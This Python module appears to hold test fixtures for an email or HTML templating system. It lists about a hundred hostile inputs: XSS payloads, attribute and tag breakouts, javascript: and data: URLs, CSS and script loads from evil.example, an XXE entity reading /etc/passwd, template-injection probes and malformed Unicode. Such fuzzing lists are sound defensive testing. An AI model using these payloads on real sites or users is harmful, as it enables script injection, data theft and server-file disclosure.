"""A hundred inputs that attackers, careless editors and old word processors bring."""

from itertools import chain

SCRIPTS = [
    "<script>alert(1)</script>", "</script><script src=//evil.example/x.js></script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<object data=evil.swf>",
    "<embed src=evil>",
    "<form action=https://evil.example><input name=card>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<video autoplay src=x>",
    "<details open ontoggle=alert(1)>", "<math><mtext></mtext></math>", "<template><b>", "<noscript><p>",
    "<frameset>",
]  # fmt: skip
BREAKOUTS = [
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>', "'><b>x</b>", '"/><mj-raw>',
    "</mj-text><mj-raw><b>x</b></mj-raw><mj-text>", "</p></td></tr></table><h1>x</h1>", "--><script>x</script><!--",
    "]]><x>", "<![CDATA[<script>]]>", "<?php echo 1 ?>", "<%= 1 %>", "<mj-include path='/etc/passwd' />",
    "<mj-style inline='inline'>* { display: none }</mj-style>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&e;", "&lt;script&gt;", "&#60;script&#62;", "&amp;lt;b&amp;gt;", 'a \\" b', "\\", "a\\nb", 'alt="x" src="y"',
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=", "vbscript:msgbox(1)",
    "file:///etc/passwd", "//evil.example/x", "http://user:secret@evil.example/",
    "https://evil.example\\@good.example/",
    "https://[::1", "https://exa mple.org/", "ftp://evil.example/", "blob:https://x/1",
    "https://x.example/?a=1\r\nX-Evil: 1",
]  # fmt: skip
STYLES = [
    "</style><script>alert(1)</script>", "<style>* { background: url(//evil.example) }</style>",
    "url(javascript:alert(1))",
    "@import url(https://evil.example/x.css);", "expression(alert(1))",
    "color:red;background:url('//evil.example/x.png')",
    "x{} @font-face { src: url(https://evil.example/f.woff) }", "behavior:url(x.htc)", "{ color: red }", "/* */ }",
]  # fmt: skip
OUTLOOK = [
    "<!--[if mso]><script>alert(1)</script><![endif]-->", "<!--[if !mso]><!--><b>x</b><!--<![endif]-->",
    "<![if !mso]>",
    "<![endif]>", "<!--", "-->", "<!-- -- > -->", "<o:p></o:p>", "<v:rect></v:rect>",
    "<!--[if gte mso 9]><xml></xml><![endif]-->",
]  # fmt: skip
TEMPLATES = [
    "{% for x in range(9**9) %}x{% endfor %}", "{{ 7 * 7 }}", "{{ ''.__class__.__mro__ }}", "{{ config }}", "{# x #}",
    "{{ first_name | upper }}", "{{ unsubscribe_url }}", "{{", "}}", "{{ first_name", "${7*7}", "#{7*7}", "<%= 7 %>",
    "%s %d %n", "{0.__class__}", "*|FNAME|*", "[[name]]", "{{ email | default('<script>') }}",
]  # fmt: skip
CHARACTERS = [
    "a\x00b", "a\x0bb", "a\x1bb", "a\x7fb", "a\x85b", "a\x92b", "a\u2028b", "a\u2029b", "a\u202eb", "a\u2066b\u2069",
    "a\u3000b", "a\u200db", "👩\u200d👩\u200d👧", "a\ufe0fb", "a\u00a0b", "a\ufeffb", "a\ud800b", "\u1100\u1161\u11a8",
    "ᄀ" * 9,
    "Z̸̛͈a̶l̵g̷o̴", "\u115f\u3164", "\u00ad" * 5, "＜script＞", "\u2063" * 3, ".", "..", "From ", "\r\n.\r\n",
    "=?utf-8?q?x?=",
    "x" * 2000, "가" * 700, " ", "\t", "\n\n", "=3D=\r\n",
]  # fmt: skip
HOSTILE = list(dict.fromkeys(chain(SCRIPTS, BREAKOUTS, ADDRESSES, STYLES, OUTLOOK, TEMPLATES, CHARACTERS)))
